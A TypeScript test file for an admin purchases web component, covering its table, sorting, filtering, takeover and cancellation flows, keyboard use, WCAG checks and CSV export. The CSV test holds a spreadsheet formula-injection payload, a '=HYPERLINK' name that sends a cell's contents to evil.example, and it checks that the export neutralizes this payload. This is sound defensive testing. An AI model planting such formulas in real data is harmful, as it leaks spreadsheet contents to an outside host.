// The organization's purchases as a tenant's admin uses them: through the table, its headers and
// buttons, the details, the confirmations and the CSV file, against the mock checkout service
// (every request and answer checked against the contract).
import { expect } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import { expectWcagAA } from '../../../test/helpers/axe.js';
import {
  button,
  buttons,
  choose,
  field,
  mountAdmin,
  root,
  textOf,
  type,
  untilText,
} from '../../../test/helpers/admin.js';
import { focused } from '../../../test/helpers/keyboard.js';
import { layoutProblems, setTextSize } from '../../../test/helpers/layout.js';
import { contractViolations, requestsTo, resetMockCheckout } from '../../../test/helpers/mock-checkout.js';
import { waitUntil } from '../../../test/helpers/wait.js';
import { loadAll } from '../../elements.js';
import type { SspTakeoverRequestedEvent } from '../../shared/events.js';
import type { SspAdminPurchases } from './admin-purchases.js';
import { neutralize } from './csv.js';

const mount = (options: Parameters<typeof mountAdmin>[1] = {}) =>
  mountAdmin<SspAdminPurchases>('ssp-admin-purchases', options);

const cells = (el: SspAdminPurchases) =>
  [...root(el).querySelectorAll('tbody tr')].map((tr) =>
    [...tr.children].map((cell) => cell.textContent!.replace(/\s+/g, ' ').trim()),
  );
const header = (el: SspAdminPurchases, name: string) =>
  [...root(el).querySelectorAll('thead th')].find((th) => th.textContent!.trim().startsWith(name))!;

/** Opens a subscription's details by its product. */
async function details(el: SspAdminPurchases, product: string): Promise<void> {
  button(el, new RegExp(`^Details of ${product} bought by`)).click();
  await untilText(el, 'Assigned users');
}

/** The Blob the next CSV export hands to the browser. */
function captureDownload(): Promise<Blob> {
  const original = URL.createObjectURL;
  return new Promise((resolve) => {
    URL.createObjectURL = (blob: Blob | MediaSource) => {
      URL.createObjectURL = original;
      resolve(blob as Blob);
      return original.call(URL, blob);
    };
  });
}

describe('<ssp-admin-purchases>', function () {
  this.timeout(30000);

  before(() => loadAll());
  beforeEach(async () => {
    await resetMockCheckout();
    sessionStorage.clear();
  });
  afterEach(() => expect(contractViolations, contractViolations.join('\n')).to.deep.equal([]));

  it('shows the self-service purchases in a real table with product, purchaser, licenses, assigned, price and expiry', async () => {
    const { el } = await mount();
    await untilText(el, 'Nina Patel');
    expect(root(el).querySelector('caption')!.textContent!.trim()).to.equal('2 subscriptions');
    const headers = [...root(el).querySelectorAll('thead th')];
    expect(headers.every((th) => th.getAttribute('scope') === 'col')).to.equal(true);
    expect(headers.map((th) => th.textContent!.replace(/[▲▼↕]/g, '').trim())).to.deep.equal([
      'Product',
      'Purchaser',
      'Licenses bought',
      'Assigned',
      'Purchase price',
      'Expires',
      'Status',
      'Actions',
    ]);
    const nina = cells(el).find((row) => row[1]!.includes('Nina Patel'))!;
    expect(nina[0]).to.equal('Power BI Pro');
    expect(nina.slice(2, 4)).to.deep.equal(['3', '3']);
    expect(nina[4]).to.match(/^\$\d+\.\d\d per license per month$/);
    expect(nina[5]).to.match(/^[A-Z][a-z]+ \d{1,2}, \d{4}$/);
    const dana = cells(el).find((row) => row[0] === 'Visio Plan 2')!;
    expect(dana[1]).to.contain('Left the organization').and.contain('=HYPERLINK(');
  });

  it('sorts by a column from its header button, announcing the order, and says so with aria-sort', async () => {
    const { el } = await mount();
    await untilText(el, 'Nina Patel');
    expect(root(el).querySelectorAll('th[aria-sort]')).to.have.length(0);
    button(el, /^Product/).click();
    await el.updateComplete;
    expect(header(el, 'Product').getAttribute('aria-sort')).to.equal('ascending');
    expect(cells(el).map((row) => row[0])).to.deep.equal(['Power BI Pro', 'Visio Plan 2']);
    await untilText(el, 'Sorted by Product, ascending');
    button(el, /^Product/).click();
    await el.updateComplete;
    expect(header(el, 'Product').getAttribute('aria-sort')).to.equal('descending');
    expect(cells(el).map((row) => row[0])).to.deep.equal(['Visio Plan 2', 'Power BI Pro']);
    button(el, /^Licenses bought/).click();
    await el.updateComplete;
    expect(root(el).querySelectorAll('th[aria-sort]')).to.have.length(1);
    expect(cells(el).map((row) => row[2])).to.deep.equal(['2', '3']);
  });

  it('filters self-service, central or all, and searches', async () => {
    const { el } = await mount();
    await untilText(el, 'Nina Patel');
    choose(field<HTMLSelectElement>(el, 'Show'), 'central');
    await untilText(el, '3 subscriptions');
    expect(cells(el).every((row) => row[1] === 'Your organization')).to.equal(true);
    choose(field<HTMLSelectElement>(el, 'Show'), 'all');
    await untilText(el, '5 subscriptions');
    expect(header(el, 'Bought')).to.exist;
    expect(requestsTo('/subscriptions', 'GET').map((r) => new URL(r.url).searchParams.get('source'))).to.deep.equal([
      'self-service',
      'central',
      'all',
    ]);
    type(field(el, 'Search by product or purchaser'), '  NINA ');
    await untilText(el, '1 subscription');
    type(field(el, 'Search by product or purchaser'), 'visio');
    await untilText(el, '3 subscriptions');
    type(field(el, 'Search by product or purchaser'), 'nobody-here');
    await untilText(el, 'No subscriptions match.');
    // A central subscription: its users, nothing to take over or cancel.
    type(field(el, 'Search by product or purchaser'), '');
    choose(field<HTMLSelectElement>(el, 'Show'), 'central');
    await untilText(el, '3 subscriptions');
    button(el, 'Details of Power BI Pro bought by Your organization').click();
    await untilText(el, 'Assigned users');
    expect(textOf(el)).to.contain('Bought centrally').and.contain('Lee Park');
    expect(buttons(el, /^(Take over|Cancel the subscription)$/)).to.have.length(0);
  });

  it('shows assigned users and order history, and takes over after a confirmation, with an event', async () => {
    const { el, events } = await mount();
    await untilText(el, 'Nina Patel');
    await details(el, 'Power BI Pro');
    await waitUntil(() => focused()?.localName === 'h2', 'focus on the heading');
    const users = [...root(el).querySelectorAll('section[aria-labelledby=users-title] tbody tr')].map(
      (tr) => tr.querySelector('th')!.textContent,
    );
    expect(users).to.deep.equal(['Nina Patel', 'Omar Haddad', 'Priya Nair']);
    const history = root(el).querySelector('section[aria-labelledby=history-title] tbody')!.textContent!;
    expect(history).to.contain('Bought').and.contain('1 license added');
    expect(textOf(el)).not.to.contain('Cancel for the purchaser');
    expect(textOf(el)).to.contain('and Nina Patel is asked to cancel');
    button(el, 'Take over').click();
    await el.updateComplete;
    expect(requestsTo('/takeover', 'POST')).to.have.length(0);
    expect(focused()?.textContent?.trim()).to.equal('Yes, take it over');
    button(el, 'Yes, take it over').click();
    await untilText(el, 'people got a license from your organization. Nina Patel was asked to cancel.');
    const takeover = events.find((e) => e.type === 'ssp-takeover-requested') as SspTakeoverRequestedEvent;
    expect(takeover.productId).to.equal('power-bi-pro');
    expect(takeover.subscriptionId).to.match(/^sub_/);
    expect(textOf(el)).to.contain('Purchaser asked to cancel on');
    expect(buttons(el, 'Take over')).to.have.length(0);
    button(el, 'All purchases').click();
    await untilText(el, '2 subscriptions');
    await waitUntil(() => focused()?.getAttribute('aria-label')?.startsWith('Details of Power BI Pro'), 'focus back');
  });

  it('offers cancel on behalf only for a purchaser who left, stating until when licenses work', async () => {
    const { el } = await mount();
    await untilText(el, 'Visio Plan 2');
    await details(el, 'Visio Plan 2');
    await untilText(
      el,
      /has left your organization\. The subscription stops renewing; the licenses keep working until \w+ \d+, \d{4}\./,
    );
    button(el, 'Cancel the subscription').click();
    await el.updateComplete;
    expect(requestsTo('/cancellation', 'POST')).to.have.length(0);
    button(el, 'Yes, cancel it').click();
    await untilText(el, /Canceled\. The licenses work until/);
    expect(root(el).querySelector('.facts')!.textContent).to.contain('Canceled');
    expect(buttons(el, 'Cancel the subscription')).to.have.length(0);
  });

  it('exports the rows on screen as CSV, a formula in a name neutralized', async () => {
    const { el } = await mount();
    await untilText(el, 'Nina Patel');
    const download = captureDownload();
    button(el, 'Export as CSV').click();
    const blob = await download;
    expect(blob.type).to.equal('text/csv;charset=utf-8');
    const text = (await blob.text()).replace(/^\uFEFF/, '');
    const lines = text.trimEnd().split('\r\n');
    expect(lines).to.have.length(3);
    expect(lines[0]).to.match(/^"Product","Purchaser","Purchaser email",/);
    expect(text).to.contain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Dana Scott"")"`);
    // No cell of the file starts with a formula character.
    expect(text).not.to.match(/(^|,|\r\n)"[=+\-@\t\r]/);
    await untilText(el, 'A CSV file with 2 subscriptions was downloaded.');
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'Nina'].map(neutralize)).to.deep.equal([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'Nina',
    ]);
  });

  it('lets a delegated partner take over but not cancel on behalf', async () => {
    const { el } = await mount({ email: 'partner@relecloud.com', tenant: '5f8f8b2c-0c1a-4d5e-9a0b-0000000c0470' });
    await untilText(el, 'Visio Plan 2');
    await details(el, 'Visio Plan 2');
    expect(buttons(el, 'Take over')).to.have.length(1);
    expect(textOf(el)).not.to.contain('Cancel for the purchaser');
  });

  for (const [lang, text] of [
    ['en', 200],
    ['ar', 100],
  ] as const) {
    it(`is usable at 320 px in ${lang} at ${text} % text: the table scrolls inside its wrapper, nothing else overflows`, async () => {
      setTextSize(text);
      try {
        await expectUsableAt320(lang);
      } finally {
        setTextSize(100);
      }
    });
  }

  async function expectUsableAt320(lang: string): Promise<void> {
    const { el } = await mount({ width: '320px', lang });
    await waitUntil(() => root(el).querySelector('tbody tr'), 'rows');
    const wrap = root(el).querySelector<HTMLElement>('.table-wrap')!;
    expect(wrap.scrollWidth).to.be.greaterThan(wrap.clientWidth);
    expect(el.getBoundingClientRect().width).to.be.at.most(320);
    // Text of the table lies beyond the element's edge until scrolled to: that is the wrapper's job.
    const inTable = (problem: string) =>
      problem.startsWith('text sticks out of ssp-admin-purchases') &&
      wrap.textContent!.includes(problem.match(/“(.*)”/)![1]!);
    const problems = layoutProblems(el).filter((problem) => !inTable(problem));
    expect(problems, problems.join('\n')).to.deep.equal([]);
  }

  it('works with the keyboard alone: sort, open the details, take over', async () => {
    const { el } = await mount();
    await untilText(el, 'Nina Patel');
    button(el, /^Purchaser/).focus();
    await sendKeys({ press: 'Enter' });
    await waitUntil(() => header(el, 'Purchaser').getAttribute('aria-sort') === 'ascending', 'sorted');
    button(el, /^Details of Power BI Pro/).focus();
    await sendKeys({ press: 'Enter' });
    await untilText(el, 'Assigned users');
    button(el, 'Take over').focus();
    await sendKeys({ press: 'Enter' });
    await waitUntil(() => focused()?.textContent?.trim() === 'Yes, take it over', 'confirm focused');
    await sendKeys({ press: 'Enter' });
    await untilText(el, 'was asked to cancel');
  });

  for (const lang of ['en', 'sv', 'ar', 'he']) {
    it(`meets WCAG A/AA on the table and the details in ${lang}`, async () => {
      const { el } = await mount({ lang });
      await waitUntil(() => root(el).querySelector('tbody tr'), 'rows');
      root(el).querySelector<HTMLButtonElement>('thead button')!.click();
      await expectWcagAA(el, `purchases (${lang})`);
      if (lang === 'ar') expect(root(el).querySelector('h2')!.textContent).to.match(/[\u0600-\u06ff]/);
      root(el).querySelector<HTMLButtonElement>('tbody td:last-child button')!.click();
      await waitUntil(() => root(el).querySelector('#users-title'), 'details');
      root(el).querySelector<HTMLButtonElement>('#takeover')!.click();
      await waitUntil(() => root(el).querySelector('#confirm'), 'confirmation');
      await expectWcagAA(el, `details (${lang})`);
      if (lang === 'ar') expect(el.getAttribute('dir')).to.equal('rtl');
    });
  }
});
